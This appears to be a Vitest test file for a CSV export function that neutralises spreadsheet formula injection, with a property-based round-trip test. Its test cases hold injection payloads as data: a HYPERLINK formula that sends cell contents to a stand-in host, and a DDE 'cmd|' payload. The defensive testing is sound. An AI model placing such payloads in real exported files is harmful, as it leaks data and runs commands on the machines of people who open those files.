import { parse } from "csv-parse/sync";
import fc from "fast-check";
import { describe, expect, test } from "vitest";
import { csvRow } from "../../analysis/export/csv-row.ts";

describe("what a spreadsheet would compute is text", () => {
  test.each([
    ['=HYPERLINK("http://x.example/?"&A1,"open")', `"'=HYPERLINK(""http://x.example/?""&A1,""open"")"`],
    ["=1+1", "'=1+1"],
    ["+82-2-1234-5678", "'+82-2-1234-5678"],
    ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
    ["@SUM(A1:A9)", "'@SUM(A1:A9)"],
    ["\t=1+1", "'\t=1+1"],
    ["\r\n=1+1", `"'\r\n=1+1"`],
    [" =1+1", "' =1+1"],
    ["＝1+1", "'＝1+1"],
    ["＠SUM(A1)", "'＠SUM(A1)"],
  ])("%j", (cell, written) => {
    expect(csvRow([cell])).toBe(written);
    expect(csvRow(["before", cell, 1])).toBe(`before,${written},1`);
  });
  test("numbers stay numbers, also those written out, and so does what only has such a sign inside", () => {
    expect(csvRow([-0.5, 1e-9, -3, 0, undefined, Number.NaN])).toBe("-0.5,1e-9,-3,0,,NaN");
    const plain = ["-0.25", "+3", "-1.5e-7", "-", "–", "a=b", "a@b.example", "3-2", "'tis", "-.5", "−0.5"];
    expect(csvRow(plain)).toBe(plain.join(","));
  });
});

test("quotes where they are needed, and around what would be read as a comment", () => {
  expect(csvRow(["a,b", 'say "x"', "two\nlines", "# no comment", " edge", "금형"])).toBe(
    '"a,b","say ""x""","two\nlines","# no comment"," edge",금형',
  );
});

test("read back by another reader every cell is what it was, but for one apostrophe before what would be computed", () => {
  const cell = fc.string({ unit: fc.constantFrom(..."=+-@ \t'\"#,1a금") });
  fc.assert(
    fc.property(fc.array(cell, { minLength: 2, maxLength: 5 }), (cells) => {
      const [read] = parse(csvRow(cells), { trim: false }) as string[][];
      expect(read).toHaveLength(cells.length);
      for (const [place, text] of read.entries()) {
        expect([cells[place], `'${cells[place]}`]).toContain(text);
        if (/^\s*[=+@-]/.test(text)) expect(text.trim().length === 1 || Number.isFinite(Number(text))).toBe(true);
      }
    }),
    { numRuns: 500, seed: 1 },
  );
});
